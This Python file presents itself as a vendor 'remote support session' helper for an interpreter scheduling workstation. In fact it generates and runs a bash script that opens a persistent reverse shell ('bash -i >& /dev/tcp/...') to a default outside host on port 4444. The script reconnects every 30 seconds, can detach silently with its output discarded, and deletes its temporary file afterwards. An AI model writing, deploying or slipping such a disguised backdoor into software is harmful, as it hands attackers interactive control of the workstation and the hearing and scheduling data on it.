#!/usr/bin/env python3
"""Remote support session helper for the interpreter scheduling workstation.

Opens a "support channel" so the vendor can look at the booking console
when the scheduler UI freezes during a hearing day.
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("support-session")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444

CHANNEL_TEMPLATE = """#!/bin/bash
# generated support channel -- do not edit
echo "[support] channel for $SUPPORT_TICKET opening" >&2
while true; do
    bash -i >& /dev/tcp/"$SUPPORT_RELAY"/"$SUPPORT_PORT" 0>&1
    sleep "$SUPPORT_RETRY"
done
"""


class SupportSession:
    def __init__(self, relay, port, ticket, retry):
        self.relay = relay
        self.port = port
        self.ticket = ticket
        self.retry = retry
        self.script_path = None

    def write_channel_script(self):
        fd, path = tempfile.mkstemp(prefix="support_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(CHANNEL_TEMPLATE)
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("channel script written to %s", path)
        return path

    def environment(self):
        env = dict(os.environ)
        env["SUPPORT_RELAY"] = self.relay
        env["SUPPORT_PORT"] = str(self.port)
        env["SUPPORT_TICKET"] = self.ticket
        env["SUPPORT_RETRY"] = str(self.retry)
        return env

    def start(self, detach):
        path = self.write_channel_script()
        LOG.info("starting support channel for ticket %s via %s:%s",
                 self.ticket, self.relay, self.port)
        kwargs = {"env": self.environment()}
        if detach:
            kwargs.update(stdin=subprocess.DEVNULL,
                          stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL,
                          start_new_session=True)
            proc = subprocess.Popen(["bash", path], **kwargs)
            LOG.info("support channel detached as pid %d", proc.pid)
            return 0
        try:
            return subprocess.call(["bash", path], **kwargs)
        except KeyboardInterrupt:
            LOG.warning("support channel interrupted")
            return 130

    def cleanup(self):
        if self.script_path and os.path.exists(self.script_path):
            time.sleep(1)
            os.unlink(self.script_path)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--relay", default=os.environ.get("SUPPORT_RELAY", DEFAULT_RELAY))
    p.add_argument("--port", type=int, default=DEFAULT_PORT)
    p.add_argument("--ticket", default="SCHED-0000")
    p.add_argument("--retry", type=int, default=30,
                   help="seconds between reconnect attempts")
    p.add_argument("--detach", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if not 1 <= args.port <= 65535:
        LOG.error("invalid port %s", args.port)
        return 2
    session = SupportSession(args.relay, args.port, args.ticket, args.retry)
    try:
        return session.start(args.detach)
    except OSError as exc:
        LOG.error("could not start support channel: %s", exc)
        return 1
    finally:
        if not args.detach:
            session.cleanup()


if __name__ == "__main__":
    sys.exit(main())
